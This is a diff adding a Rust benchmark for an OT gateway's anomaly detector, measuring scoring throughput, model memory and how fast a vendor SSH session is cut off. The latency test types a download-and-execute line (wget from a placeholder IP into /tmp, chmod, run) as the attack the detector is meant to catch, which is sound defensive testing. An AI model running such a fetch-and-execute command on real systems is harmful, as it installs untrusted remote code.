@@ -1,0 +1,265 @@
+//! The detector: events scored per second on one core (commands and Modbus requests),
+//! memory per vendor and per asset model, and detection-to-session-end latency: a vendor's
+//! OpenSSH shell through the gateway types a download-and-execute line, the detector
+//! terminates the session and revokes its grant; measured from the Enter key to the
+//! vendor's ssh exiting, over `sessions` sessions (each on a fresh grant).
+
+use std::io::Write;
+use std::path::PathBuf;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use anyhow::{Context, Result, bail};
+use serde_json::json;
+use time::OffsetDateTime;
+
+use otgate_detector::{
+    Detector, DetectorConfig, ModbusRequest, Observation, Observed, SessionContext, Table,
+};
+
+use crate::demo::Demo;
+use crate::ssh::{grant, rss_bytes, ssh, sshd};
+use crate::stats::summarize;
+
+/// Real command streams (the SEA users), or a fixed mix when the data is not here.
+fn commands() -> Vec<String> {
+    let dirs = [
+        std::env::var("OTGATE_DATA").ok().map(PathBuf::from),
+        Some(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data")),
+    ];
+    for dir in dirs.into_iter().flatten() {
+        let mut all = Vec::new();
+        for user in 1..=25 {
+            if let Ok(text) = std::fs::read_to_string(dir.join(format!("sea-dev/User{user}"))) {
+                all.extend(text.lines().map(str::to_owned));
+            }
+        }
+        if !all.is_empty() {
+            return all;
+        }
+    }
+    [
+        "ls -la",
+        "systemctl status historian",
+        "tail -n 50 /var/log/syslog",
+        "df -h",
+        "vi cfg",
+    ]
+    .iter()
+    .cycle()
+    .take(10_000)
+    .map(|s| (*s).to_owned())
+    .collect()
+}
+
+fn context(id: &str, vendor: &str, asset: &str) -> SessionContext {
+    SessionContext {
+        id: id.into(),
+        grant: None,
+        vendor: vendor.into(),
+        asset: asset.into(),
+        zone: None,
+        level: None,
+        addresses: Vec::new(),
+        maintenance: Vec::new(),
+        started_at: OffsetDateTime::now_utc(),
+    }
+}
+
+fn modbus(session: &str, i: usize) -> Observation {
+    let write = i.is_multiple_of(10);
+    Observation {
+        session: session.into(),
+        at: OffsetDateTime::now_utc(),
+        what: Observed::Modbus {
+            request: ModbusRequest {
+                unit: 1,
+                function: if write { 6 } else { 3 },
+                table: Some(Table::Holding),
+                start: Some(100 + (i % 50) as u16),
+                count: Some(if write { 1 } else { 10 }),
+                values: if write {
+                    vec![(i % 500) as u16]
+                } else {
+                    vec![]
+                },
+                exception: None,
+            },
+            allowed: true,
+        },
+    }
+}
+
+/// Events per second through `Detector::observe`, on this thread.
+fn throughput(commands: &[String]) -> Result<()> {
+    let mut detector = Detector::new(DetectorConfig::default())?;
+    let n = commands.len().min(150_000);
+    // Sessions of 100 commands, vendors taking turns, so models warm up and learn as live.
+    let start = Instant::now();
+    for (b, block) in commands[..n].chunks(100).enumerate() {
+        let id = format!("c{b}");
+        detector.start(context(&id, &format!("vendor{}", b % 25), "ews"));
+        for line in block {
+            let _ = detector.observe(&Observation {
+                session: id.clone(),
+                at: OffsetDateTime::now_utc(),
+                what: Observed::Command {
+                    line: line.clone(),
+                    allowed: true,
+                },
+            });
+        }
+        detector.end(&id);
+    }
+    let elapsed = start.elapsed();
+    println!(
+        "commands scored on one core: {:>10.0} events/s ({n} events, sessions of 100, 25 vendors)",
+        n as f64 / elapsed.as_secs_f64()
+    );
+    let requests = 200_000;
+    let start = Instant::now();
+    for s in 0..requests / 1000 {
+        let id = format!("m{s}");
+        detector.start(context(&id, "vendor1", &format!("plc-{}", s % 10)));
+        for i in 0..1000 {
+            let _ = detector.observe(&modbus(&id, i));
+        }
+        detector.end(&id);
+    }
+    let elapsed = start.elapsed();
+    println!(
+        "Modbus requests scored on one core: {:>6.0} events/s ({requests} events, 10 PLCs)",
+        requests as f64 / elapsed.as_secs_f64()
+    );
+    Ok(())
+}
+
+/// Resident memory added per vendor model and per asset model.
+fn memory(commands: &[String]) -> Result<()> {
+    let pid = std::process::id();
+    let vendors = 1000;
+    let mut detector = Detector::new(DetectorConfig::default())?;
+    let before = rss_bytes(pid)?;
+    for v in 0..vendors {
+        // Each vendor learns 2,000 real commands (20 sessions of 100).
+        let offset = (v * 2000) % commands.len().saturating_sub(2000).max(1);
+        let own = &commands[offset..(offset + 2000).min(commands.len())];
+        detector.learn_commands(&format!("vendor{v}"), own);
+    }
+    let after = rss_bytes(pid)?;
+    println!(
+        "memory per vendor model (2,000 commands learnt, {vendors} vendors): {:.1} KB",
+        after.saturating_sub(before) as f64 / 1e3 / vendors as f64
+    );
+    let assets = 1000;
+    let before = rss_bytes(pid)?;
+    for a in 0..assets {
+        let observations: Vec<Observation> = (0..500).map(|i| modbus("x", i)).collect();
+        detector.learn(
+            &format!("vendor{}", a % 10),
+            &format!("plc-{a}"),
+            &observations,
+        );
+    }
+    let after = rss_bytes(pid)?;
+    println!(
+        "memory per asset model (500 requests learnt: 50 registers written, reads; {assets} assets, with the vendor-and-asset models): {:.1} KB",
+        after.saturating_sub(before) as f64 / 1e3 / assets as f64
+    );
+    Ok(())
+}
+
+/// From the Enter key of an attacker-like line to the vendor's ssh exiting.
+async fn detection_to_end(sessions: usize) -> Result<()> {
+    let demo = Demo::start()?;
+    let dir = demo.dir().join("asset");
+    std::fs::create_dir_all(&dir)?;
+    let asset = sshd(&dir)?;
+    let me = String::from_utf8(Command::new("id").arg("-un").output()?.stdout)?
+        .trim()
+        .to_owned();
+    let admin = demo.session("admin").await?;
+    let vendor = demo.session("vendor1").await?;
+    let eng1 = demo.session("eng1").await?;
+    admin
+        .post("/vault", json!({ "name": "bench-key", "kind": "private_key", "secret": std::fs::read_to_string(&asset.service_key)? }))
+        .await?;
+    admin
+        .post("/assets", json!({ "name": "bench-ws", "kind": "ews", "level": "3", "zone": "site-ops",
+            "endpoints": [{ "protocol": "ssh", "host": "127.0.0.1", "port": asset.port, "host_key": asset.host_key, "credential": "bench-key", "user": me }] }))
+        .await?;
+    let key = PathBuf::from(
+        demo.file["users"]
+            .as_array()
+            .context("users")?
+            .iter()
+            .find(|u| u["name"] == "vendor1")
+            .and_then(|u| u["ssh_key"].as_str())
+            .context("vendor key")?,
+    );
+    let public = std::fs::read_to_string(format!("{}.pub", key.display()))?;
+    let certificate = PathBuf::from(format!("{}-cert.pub", key.display()));
+    let gateway = demo.file["ssh"].as_str().context("ssh")?.to_owned();
+    let (_, port) = gateway.rsplit_once(':').context("gateway address")?;
+    let mut samples = Vec::with_capacity(sessions);
+    for _ in 0..sessions {
+        grant(&vendor, &eng1, &public, &certificate).await?;
+        let mut child = ssh(port, "vendor1+bench-ws", &key, Some(&certificate))
+            .arg("-tt")
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()?;
+        let mut stdin = child.stdin.take().context("stdin")?;
+        let mut stdout = child.stdout.take().context("stdout")?;
+        let (tx, rx) = std::sync::mpsc::channel::<Vec<u8>>();
+        std::thread::spawn(move || {
+            let mut buffer = [0u8; 4096];
+            while let Ok(n) = std::io::Read::read(&mut stdout, &mut buffer) {
+                if n == 0 || tx.send(buffer[..n].to_vec()).is_err() {
+                    break;
+                }
+            }
+        });
+        // The shell is ready when it has run a command.
+        stdin.write_all(b"echo RE''ADY\r")?;
+        let mut seen = Vec::new();
+        while !seen.windows(5).any(|w| w == b"READY") {
+            let chunk = rx
+                .recv_timeout(Duration::from_secs(10))
+                .context("the shell did not start")?;
+            seen.extend_from_slice(&chunk);
+        }
+        let sent = Instant::now();
+        stdin.write_all(
+            b"cd /tmp && wget -q -T 1 http://198.51.100.7/x -O .x; chmod +x .x; ./.x\r",
+        )?;
+        stdin.flush()?;
+        let deadline = sent + Duration::from_secs(20);
+        loop {
+            if child.try_wait()?.is_some() {
+                break;
+            }
+            if Instant::now() > deadline {
+                let _ = child.kill();
+                bail!("the detector did not end the session within 20 s");
+            }
+            std::thread::sleep(Duration::from_micros(200));
+        }
+        samples.push(sent.elapsed());
+    }
+    println!("detection to session end ({sessions} sessions, each on a fresh grant):");
+    println!(
+        "  {}",
+        summarize(&samples).line("Enter of the line -> vendor's ssh exits")
+    );
+    Ok(())
+}
+
+/// Runs the three measurements.
+pub async fn run(sessions: usize) -> Result<()> {
+    let commands = commands();
+    throughput(&commands)?;
+    memory(&commands)?;
+    detection_to_end(sessions).await
+}
